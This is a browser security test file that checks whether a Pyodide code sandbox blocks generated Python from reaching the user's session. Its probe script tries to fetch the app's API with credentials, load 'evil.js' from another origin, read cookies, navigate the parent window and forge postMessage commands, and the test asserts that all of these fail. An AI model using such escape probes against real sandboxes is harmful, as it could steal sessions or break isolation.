"""Generated code is sealed off from the user's session (issue 11), in Chromium.

The runtime (frontend/src/runtime/, isolated by default) runs through the
harness page on a 127.0.0.1 server that also plays the app's API (/api/probe
records every hit and its Cookie header) while the page holds an httpOnly
session cookie. A second listener on another 127.0.0.1 port records every
connection. Python in the worker then tries each way out; each must fail and
neither server may see a single request from it, while analysis, mounts and
produced files keep working, the runtime's bytes stay in the HTTP cache across
a reload, and the sandbox document carries its own CSP.
"""

from __future__ import annotations

import base64
import json
import socket
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest

ROOT = Path(__file__).resolve().parents[1]
DIST = ROOT / "pyodide_bundle" / "dist"
sys.path.insert(0, str(ROOT / "pyodide_bundle" / "harness"))

from static_server import RoutedHandler, StaticServer, default_routes  # noqa: E402

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not (DIST / "manifest.json").exists(),
                       reason="pyodide_bundle/dist is not built: run pyodide_bundle/build.sh"),
]

SECRET = "s3cret-session-token"


class Listener:
    """A TCP listener on another 127.0.0.1 port (another origin) that records connections."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    data = conn.recv(4096)
                except OSError:
                    data = b""
                self.connections.append(data)
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\n\r\nok")

    def close(self) -> None:
        self._stop = True
        self.thread.join(timeout=2)
        self.sock.close()


class ApiServer(StaticServer):
    """The harness's static server plus an /api/probe that records each hit's cookies."""

    def __init__(self, routes):
        super().__init__(routes)
        hits = self.api_hits = []

        def do_api(handler):
            hits.append((handler.command, handler.path, handler.headers.get("Cookie", "")))
            body = b'{"user": "ada"}'
            handler.send_response(200)
            handler.send_header("Content-Type", "application/json")
            handler.send_header("Content-Length", str(len(body)))
            RoutedHandler.end_headers(handler)
            handler.wfile.write(body)

        cls = self.httpd.RequestHandlerClass.func
        orig_get = cls.do_GET

        def do_GET(handler):
            if urlsplit(handler.path).path.startswith("/api/probe"):
                return do_api(handler)
            return orig_get(handler)

        cls.do_GET = do_GET
        cls.do_POST = do_api


@pytest.fixture(scope="module")
def servers(tmp_path_factory):
    files = tmp_path_factory.mktemp("files")
    (files / "sales.csv").write_text("region,sales\nNorth,120\nSouth,80\nEast,100\n")
    listener = Listener()
    with ApiServer(default_routes(files_dir=files)) as srv:
        yield srv, listener
    listener.close()


@pytest.fixture(scope="module")
def sandboxed(browser, servers):
    srv, _ = servers
    context = browser.new_context()
    context.add_cookies([{"name": "kepler_session", "value": SECRET, "url": srv.base_url,
                          "httpOnly": True, "sameSite": "Lax"}])
    page = context.new_page()
    messages = []
    page.on("console", lambda m: messages.append(m.text))
    page.goto(srv.url("/harness/index.html?profile=modern"))
    page.wait_for_function("window.harnessLoaded === true")
    # Anything the sandbox (or anyone) posts to the page's window is recorded.
    page.evaluate("""window.__windowMessages = [];
        window.addEventListener('message', (e) => window.__windowMessages.push(
            {type: e.data && e.data.type, fromSandbox: e.source !== window}))""")
    page.evaluate("harness.start()")
    yield page, context, messages
    context.close()


def run(page, code: str, **opts) -> dict:
    return page.evaluate("([code, opts]) => harness.run(code, opts)", [code, opts])


PROBES = r'''
import json, js
API = "{api}"
OTHER = "{other}"
WS = "{ws}"
results = {{}}
def attempt(name, fn):
    try:
        out = fn()
        results[name] = "ALLOWED: " + str(out)[:200]
    except BaseException as e:
        results[name] = "blocked: %s: %s" % (type(e).__name__, str(e)[:200])
def later(name, promise):
    results[name] = "pending"
    def ok(value):
        results[name] = "ALLOWED: " + str(value)[:200]
    def fail(err):
        results[name] = "blocked: " + str(err)[:200]
    promise.then(ok, fail)
    return "pending"
opts = js.Object.fromEntries([["credentials", "include"]])
post = js.Object.fromEntries([["method", "POST"], ["body", "delete-everything"]])
attempt("fetch same-origin API", lambda: later("fetch same-origin API", js.fetch(API)))
attempt("fetch same-origin API with credentials", lambda: later("fetch same-origin API with credentials", js.fetch(API, opts)))
attempt("fetch POST same-origin API", lambda: later("fetch POST same-origin API", js.fetch(API, post)))
attempt("fetch other origin", lambda: later("fetch other origin", js.fetch(OTHER)))
def sync_xhr(url):
    x = js.XMLHttpRequest.new()
    x.open("GET", url, False)
    x.send()
    return x.status, x.responseText
attempt("sync XHR same-origin API", lambda: sync_xhr(API))
attempt("sync XHR other origin", lambda: sync_xhr(OTHER))
def open_url(url):
    import pyodide
    return pyodide.open_url(url).read()
attempt("pyodide.open_url same-origin API", lambda: open_url(API))
attempt("pyodide.open_url other origin", lambda: open_url(OTHER))
def pyfetch(url):
    from pyodide.http import pyfetch
    return later("pyodide.http.pyfetch", pyfetch(url))
attempt("pyodide.http.pyfetch", lambda: pyfetch(API))
def websocket():
    ws = js.WebSocket.new(WS)
    results["WebSocket"] = "pending"
    def opened(e):
        results["WebSocket"] = "ALLOWED: open"
    def failed(e):
        results["WebSocket"] = "blocked: error event"
    from pyodide.ffi import create_proxy  # kept: a plain callable is freed when the call returns
    ws.addEventListener("open", create_proxy(opened))
    ws.addEventListener("error", create_proxy(failed))
    return "pending"
attempt("WebSocket", websocket)
def event_source(url):
    results["EventSource"] = "pending"
    es = js.EventSource.new(url)
    def opened(e):
        results["EventSource"] = "ALLOWED: open"
    def failed(e):
        results["EventSource"] = "blocked: error event"
        es.close()
    from pyodide.ffi import create_proxy
    es.addEventListener("open", create_proxy(opened))
    es.addEventListener("error", create_proxy(failed))
    return "pending"
attempt("EventSource", lambda: event_source(OTHER))
attempt("importScripts other origin", lambda: js.importScripts(OTHER + "/evil.js"))
attempt("importScripts same-origin API", lambda: js.importScripts(API))
def idb():
    req = js.indexedDB.open("kepler-probe")
    results["IndexedDB"] = "pending"
    def ok(e):
        results["IndexedDB"] = "ALLOWED: opened"
    def fail(e):
        results["IndexedDB"] = "blocked: error event"
    req.addEventListener("success", ok)
    req.addEventListener("error", fail)
    return "pending"
attempt("IndexedDB", idb)
attempt("Cache API", lambda: later("Cache API", js.caches.open("kepler-probe")))
attempt("document.cookie", lambda: js.document.cookie)
attempt("navigate the top window", lambda: js.eval("top.location.href = 'about:blank#escaped'"))
attempt("navigate via opener/parent", lambda: js.eval("parent.location = 'about:blank#escaped'"))
forged = js.Object.fromEntries([["type", "result"], ["id", "run-forged#1"], ["ok", True], ["stdout", "forged"],
                                ["stderr", ""], ["files", js.Array.new()]])
# Posting works (it is the worker's only channel); what counts is what the page does with it.
js.postMessage(forged)
js.postMessage(js.Object.fromEntries([["type", "eval"], ["code", "alert(1)"]]))
js.eval("const keep = self.postMessage; delete self.postMessage; try {{ self.postMessage("
        "{{type: 'kepler-sandbox-boot', workerSource: 'x', base: 'x'}}); }} catch (e) {{}} finally {{ self.postMessage = keep; }}")
# A nested worker has the browser's own fetch/XHR/WebSocket/importScripts, not the bootstrap's.
NESTED = """
const out = {{}};
const api = %s, other = %s, ws = %s;
const tries = [
  ['native fetch API', () => fetch(api)],
  ['native fetch API with credentials', () => fetch(api, {{credentials: 'include'}})],
  ['native fetch other origin', () => fetch(other)],
  ['native fetch no-cors other origin', () => fetch(other, {{mode: 'no-cors'}})],
];
(async () => {{
  for (const [name, fn] of tries) {{
    try {{ await fn(); out[name] = 'ALLOWED'; }} catch (e) {{ out[name] = 'blocked: ' + e; }}
  }}
  try {{ const x = new XMLHttpRequest(); x.open('GET', api, false); x.send(); out['native sync XHR API'] = 'ALLOWED ' + x.status; }}
  catch (e) {{ out['native sync XHR API'] = 'blocked: ' + e; }}
  try {{ importScripts(other + '/evil.js'); out['native importScripts other origin'] = 'ALLOWED'; }}
  catch (e) {{ out['native importScripts other origin'] = 'blocked: ' + e; }}
  try {{ new WebSocket(ws); out['native WebSocket'] = 'constructed'; }} catch (e) {{ out['native WebSocket'] = 'blocked: ' + e; }}
  postMessage(out);
}})();
""" % (json.dumps(API), json.dumps(OTHER), json.dumps(WS))
def nested():
    results["nested worker"] = "pending"
    blob = js.Blob.new([NESTED], js.Object.fromEntries([["type", "text/javascript"]]))
    w = js.Worker.new(js.URL.createObjectURL(blob))
    def got(e):
        results["nested worker"] = js.JSON.stringify(e.data)
    # a kept proxy: a plain Python callable passed to JS is freed when the call returns
    from pyodide.ffi import create_proxy
    w.addEventListener("message", create_proxy(got))
    return "pending"
attempt("nested worker", nested)
print("probes started")
'''


def test_every_escape_from_the_worker_is_blocked(sandboxed, servers):
    page, _context, _messages = sandboxed
    srv, listener = servers
    origin = srv.base_url
    other = f"http://127.0.0.1:{listener.port}"
    srv.api_hits.clear()
    before = page.evaluate("harness.runtime.rejectedMessages")
    code = PROBES.format(api=f"{origin}/api/probe", other=other, ws=f"ws://127.0.0.1:{listener.port}/")
    started = run(page, code, timeout_s=60)
    assert started["ok"], started["stderr"]
    assert started["stdout"] == "probes started\n"
    time.sleep(3)  # let the asynchronous attempts settle
    report = run(page, "import json\nprint(json.dumps(results))")
    assert report["ok"], report["stderr"]
    results = json.loads(report["stdout"])
    nested = json.loads(results.pop("nested worker"))
    results.update({f"nested: {k}": v for k, v in nested.items()})
    print(json.dumps(results, indent=1))

    allowed = {k: v for k, v in results.items() if v.startswith("ALLOWED") or v == "pending"}
    # A WebSocket that CSP refuses is constructed and then fails; it must never open.
    allowed.pop("nested: native WebSocket", None)
    assert allowed == {}, allowed
    assert results["WebSocket"] in ("blocked: error event",) or results["WebSocket"].startswith("blocked")
    assert "Content Security Policy" in nested["native sync XHR API"] or "NetworkError" in nested["native sync XHR API"]

    # Nobody received anything: not the app's API, not the other origin.
    assert srv.api_hits == []
    assert listener.connections == []
    # The page saw the forged protocol messages and dropped them; nothing reached its window.
    assert page.evaluate("harness.runtime.rejectedMessages") >= before + 1
    assert [m for m in page.evaluate("window.__windowMessages") if m["type"] != "kepler-sandbox-loaded"] == []
    assert page.url.endswith("/harness/index.html?profile=modern")

    # Control: the page itself still reaches the API with its cookie (the probe server works).
    assert page.evaluate("fetch('/api/probe').then(r => r.status)") == 200
    assert srv.api_hits and SECRET in srv.api_hits[-1][2]


def test_analysis_mounts_and_files_still_work_in_the_sandbox(sandboxed):
    page, _, _ = sandboxed
    mounts = [{"material_id": "m1", "name": "sales.csv", "path": "/workspace/uploads/sales.csv",
               "url": "/files/sales.csv"}]
    code = ("import pandas as pd, matplotlib.pyplot as plt\n"
            "df = pd.read_csv('uploads/sales.csv')\n"
            "print(int(df['sales'].sum()))\n"
            "fig, ax = plt.subplots(); ax.bar(df['region'], df['sales'])\n"
            "fig.savefig('output/generated/u1/s1/sales.png')\n"
            "df.to_csv('output/generated/u1/s1/copy.csv', index=False)\n")
    result = run(page, code, mounts=mounts, timeout_s=120)
    assert result["ok"], result["stderr"]
    assert result["stdout"] == "300\n"
    files = {f["name"]: base64.b64decode(f["bytes"]) for f in result["files"]}
    assert files["sales.png"].startswith(b"\x89PNG")
    assert files["copy.csv"].decode().splitlines() == ["region,sales", "North,120", "South,80", "East,100"]
    # A package outside the pre-warm set loads through the page too.
    sk = run(page, "import scipy.stats\nprint(round(float(scipy.stats.norm.cdf(0)), 2))", timeout_s=180)
    assert sk["ok"], sk["stderr"]
    assert sk["stdout"] == "0.5\n"


def test_the_sandbox_page_carries_its_own_policy(sandboxed, servers):
    page, _, _ = sandboxed
    srv, _ = servers
    frame = page.locator('iframe[data-testid="python-sandbox"]')
    assert frame.get_attribute("sandbox") == "allow-scripts"
    response = page.request.get(srv.url("/api/runtime/sandbox"))
    csp = response.headers["content-security-policy"]
    for directive in ("default-src 'none'", "connect-src 'none'", "frame-ancestors 'self'",
                      "worker-src blob:", "sandbox allow-scripts"):
        assert directive in csp
    assert "http" not in csp.split("script-src", 1)[1].split(";", 1)[0]  # no URL can provide scripts
    # The sandbox's origin is opaque: the page cannot read into it, and it cannot read the page.
    assert page.evaluate("""() => { try { return document.querySelector('iframe[data-testid="python-sandbox"]')
        .contentWindow.document.title; } catch (e) { return 'blocked: ' + e.name; } }""") == "blocked: SecurityError"


def test_the_runtimes_bytes_come_from_the_http_cache_after_a_reload(playwright_instance, servers, tmp_path):
    # A persistent profile: a disk cache like a person's browser (a fresh
    # context's memory cache keeps no 10 MB entries). The opaque-origin sandbox
    # would get a transient cache partition; the page fetches for it instead.
    from conftest import CHROMIUM, CHROMIUM_ARGS

    srv, _ = servers
    context = playwright_instance.chromium.launch_persistent_context(
        str(tmp_path / "profile"), executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
    try:
        page = context.pages[0] if context.pages else context.new_page()
        page.goto(srv.url("/harness/index.html?profile=modern"))
        page.wait_for_function("window.harnessLoaded === true")
        page.evaluate("harness.start()")
        assert page.locator('iframe[data-testid="python-sandbox"]').count() == 1
        # the files a start does not open (prewarm-rest.bin) are requested after ready; a run waits
        # for them, so after it everything is cached (a reload before they arrive fetches them again)
        assert run(page, "pass")["ok"]
        first = len(srv.served)
        page.reload()
        page.wait_for_function("window.harnessLoaded === true")
        page.evaluate("harness.start()")
        again = [(p, n) for p, n in srv.served[first:] if p.startswith("/pyodide/")]
        assert again == [], again  # bytes downloaded twice: none
        result = run(page, "import pandas\nprint('ok')")
        assert result["ok"], result["stderr"]
    finally:
        context.close()
